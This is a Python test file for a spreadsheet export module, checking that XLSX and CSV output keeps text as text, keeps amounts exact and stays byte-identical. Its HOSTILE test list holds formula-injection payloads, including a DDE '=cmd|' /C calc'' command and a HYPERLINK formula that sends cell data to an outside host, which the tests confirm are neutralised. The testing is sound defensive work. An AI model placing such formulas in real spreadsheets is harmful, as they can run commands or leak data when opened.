"""A table leaves as XLSX or CSV: text stays text, amounts stay exact, the same facts stay bytes."""

import csv
import io
import re
import subprocess
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path
from zipfile import ZipFile

import pytest
from openpyxl import Workbook, load_workbook
from python_calamine import CalamineWorkbook

from market.kernel.money import Money
from market.kernel.spreadsheets import Table, TableKind, csv_lines, harmless, written
from tests.legs import need_libreoffice

DATED = datetime(2026, 3, 10, 2, 0, 3, 999, tzinfo=UTC)

HOSTILE = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "　＝1+1"),
    *("＝1+1", "＋1", "－1", "＠SUM(A1)", "\tx", "\rx"),
    '=HYPERLINK("http://example.invalid/?"&A1,"湘江")',
    "=cmd|' /C calc'!A0",
    '"=1+1',
    '甲",=1+1',
    '甲";=1+1',
    "甲;=1+1;乙",
    "甲; =1+1",
    "甲\t=1+1",
    "甲\n=1+1",
    "甲\r\n=1+1",
]
PLAIN = [
    *("湘江新材料", "a=1", "甲-乙", "1+1", "O'Neil", '说"好"', "a;b,c\td", "两行\n之间"),
    *(" 空格 ", "#N/A", "TRUE", "007", "1E5", "2026-03-10", "914301001234567890"),
    *("_x0041_", "😀", "\U00020000"),
]


def table(*rows: tuple[str | int | Money | date | datetime | None, ...]) -> Table:
    return Table("台账", [f"列{n}" for n, _ in enumerate(rows[0])], rows)


def xlsx(made: Table) -> Workbook:
    return load_workbook(io.BytesIO(written(made, TableKind.XLSX, dated=DATED)))


def csv_text(made: Table) -> str:
    return written(made, TableKind.CSV, dated=DATED).decode("utf-8")


# ── text ─────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("typed", HOSTILE + PLAIN)
def test_text_in_a_workbook_is_text_also_when_it_is_saved_and_opened_again(typed: str) -> None:
    first = written(table((typed, "后")), TableKind.XLSX, dated=DATED)
    book = load_workbook(io.BytesIO(first))
    again = io.BytesIO()
    book.save(again)
    for content in (first, again.getvalue()):
        cell = load_workbook(io.BytesIO(content)).worksheets[0]["A2"]
        assert cell.data_type == "s"
        assert cell.number_format == "@"
        read = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0)
        assert read.to_python()[1] == [typed, "后"]
        assert not formulas(content)


def formulas(content: bytes) -> list[bytes]:
    with ZipFile(io.BytesIO(content)) as parts:
        return re.findall(rb'<f[ />][^<]*|<c [^>]*t="e"', parts.read("xl/worksheets/sheet1.xml"))


@pytest.mark.parametrize("typed", HOSTILE)
def test_no_program_finds_a_formula_in_a_csv_however_it_splits_the_line(typed: str) -> None:
    text = csv_text(table(("前", typed, "后")))
    for delimiter in (",", ";", "\t"):
        lines = io.StringIO(text.removeprefix("\ufeff"), newline="")
        cells = [cell for row in csv.reader(lines, delimiter=delimiter) for cell in row]
        assert not [cell for cell in cells if cell.lstrip().startswith(tuple("=+-@＝＋－＠"))]


@pytest.mark.parametrize("typed", PLAIN)
def test_plain_text_is_read_from_a_csv_as_it_was_written(typed: str) -> None:
    lines = csv_text(table((typed, "后"))).removeprefix("\ufeff")
    assert list(csv.reader(io.StringIO(lines, newline="")))[1] == [typed, "后"]


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("=1+1", "'=1+1"),
        ("＝1+1", "'＝1+1"),
        ("\tx", "'\tx"),
        (" =1", "' =1"),
        ("甲;=1", "甲;'=1"),
        ("甲\n- 乙", "甲\n'- 乙"),
        ("甲-乙", "甲-乙"),
        ("", ""),
    ],
)
def test_an_apostrophe_stands_before_what_looks_like_a_formula(typed: str, kept: str) -> None:
    assert harmless(typed) == kept


def test_a_csv_opens_in_a_spreadsheet_as_utf_8_with_lines_that_end_as_rfc_4180_says() -> None:
    assert csv_text(table(('说"好"', 1))) == '\ufeff"列0","列1"\r\n"说""好""","1"\r\n'
    assert list(csv_lines(["甲"], [])) == ['\ufeff"甲"\r\n']


@pytest.mark.parametrize("kind", TableKind)
def test_what_no_file_can_hold_is_shown_as_its_code_point(kind: TableKind) -> None:
    content = written(table(("a\x00b\ud800c\x1bd",)), kind, dated=DATED)
    shown = "a〔U+0000〕b〔U+D800〕c〔U+001B〕d"
    if kind is TableKind.XLSX:
        assert load_workbook(io.BytesIO(content)).worksheets[0]["A2"].value == shown
    else:
        assert shown in content.decode()


def test_a_text_beyond_what_a_cell_holds_is_cut_at_a_whole_character() -> None:
    value = xlsx(table(("甲" * 32_766 + "😀",))).worksheets[0]["A2"].value
    assert value == "甲" * 32_766


# ── numbers and days ─────────────────────────────────────────────────────────────────────────────


def test_amounts_days_and_instants_are_typed_and_stand_in_the_market_s_zone() -> None:
    late = datetime(2026, 3, 9, 16, 30, 15, 999_999, tzinfo=UTC)
    elsewhere = late.astimezone(timezone(timedelta(hours=-5)))
    row = (Money(-120_000_001), Money(5, "JPY"), 12, date(2026, 3, 9), late, elsewhere, None)
    cells = xlsx(table(row)).worksheets[0][2]
    local = datetime(2026, 3, 10, 0, 30, 15)  # noqa: DTZ001  as a spreadsheet keeps it
    assert [c.value for c in cells[:3]] == [-1_200_000.01, 5, 12]
    assert [c.number_format for c in cells[:2]] == ["[$CNY] #,##0.00", "[$JPY] #,##0"]
    assert cells[3].value == datetime(2026, 3, 9)  # noqa: DTZ001
    assert cells[3].number_format == "yyyy-mm-dd"
    assert cells[4].value == cells[5].value == local
    assert [c.value for c in cells[6:]] == [] or cells[6].value is None
    assert csv_text(table(row)).splitlines()[1] == (
        '"-1200000.01","5","12","2026-03-09","2026-03-10 00:30:15","2026-03-10 00:30:15",""'
    )


@pytest.mark.parametrize("minor", [0, 1, -1, 10**13 * 100 - 1, 999_999_999_999_999])
def test_an_amount_reads_back_to_the_fen(minor: int) -> None:
    assert round(xlsx(table((Money(minor),))).worksheets[0]["A2"].value * 100) == minor


def test_a_number_that_a_spreadsheet_would_round_is_text() -> None:
    assert xlsx(table((10**15 + 1, 10**15))).worksheets[0]["A2"].value == "1000000000000001"


@pytest.mark.parametrize("kind", TableKind)
def test_a_naive_instant_is_refused(kind: TableKind) -> None:
    with pytest.raises(ValueError, match="aware"):
        written(table((DATED.replace(tzinfo=None),)), kind, dated=DATED)


# ── the file ─────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("kind", TableKind)
def test_the_same_table_is_the_same_bytes_whenever_it_is_written(kind: TableKind) -> None:
    made = table(("甲", Money(1), DATED))
    assert written(made, kind, dated=DATED) == written(made, kind, dated=DATED)
    content = written(made, TableKind.XLSX, dated=DATED)
    with ZipFile(io.BytesIO(content)) as parts:
        assert {p.date_time for p in parts.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert parts.read("docProps/core.xml").count(b">2026-03-10T10:00:03Z<") == 2
    assert content != written(made, TableKind.XLSX, dated=DATED + timedelta(seconds=1))


def test_the_titles_stand_bold_above_and_stay_while_the_rows_roll() -> None:
    made = Table("账目[2026]: 甲/乙" + "长" * 40, ["甲", "付款附言"], [("x" * 99, "湘江新材料")])
    sheet = xlsx(made).worksheets[0]
    assert sheet.title == ("账目 2026   甲 乙" + "长" * 40)[:31]
    assert [c.value for c in sheet[1]] == ["甲", "付款附言"]
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 60
    assert sheet.column_dimensions["B"].width == 12


def test_a_table_without_rows_has_its_titles() -> None:
    empty = Table("空", ["甲", "乙"], [])
    assert [c.value for c in xlsx(empty).worksheets[0][1]] == ["甲", "乙"]
    assert csv_text(empty) == '\ufeff"甲","乙"\r\n'


# ── another office ───────────────────────────────────────────────────────────────────────────────


def saved_again(content: bytes, kind: TableKind, folder: Path) -> bytes:
    """The workbook that LibreOffice makes of a file."""
    office, source = need_libreoffice(), folder / f"before.{kind.value}"
    source.write_bytes(content)
    profile = f"-env:UserInstallation=file://{folder}/profile"
    reading = ["--infilter=CSV:44,34,76,1"] if kind is TableKind.CSV else []
    saving = ["--headless", "--convert-to", "xlsx", "--outdir", str(folder / "out"), str(source)]
    subprocess.run([office, profile, *reading, *saving], check=True, capture_output=True)
    return (folder / "out" / "before.xlsx").read_bytes()


@pytest.mark.parametrize("kind", TableKind)
def test_libreoffice_saves_and_opens_every_text_as_text(kind: TableKind, tmp_path: Path) -> None:
    typed = [each for each in HOSTILE + PLAIN if "\r" not in each]
    made = table(*((each, "后") for each in typed))
    content = saved_again(written(made, kind, dated=DATED), kind, tmp_path)
    assert not formulas(content)
    read = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0)
    rows = [row[0] for row in read.to_python()[1:]]
    assert rows == typed if kind is TableKind.XLSX else len(rows) == len(typed)


def test_libreoffice_finds_the_formula_that_nobody_disarmed(tmp_path: Path) -> None:
    assert formulas(saved_again(b'"a"\r\n"=1+1"\r\n', TableKind.CSV, tmp_path))


def test_a_workbook_whose_cells_have_no_type_would_hold_a_formula() -> None:
    book, content = Workbook(), io.BytesIO()
    book.worksheets[0].append(["=1+1", "#N/A"])
    book.save(content)
    assert len(formulas(content.getvalue())) == 2
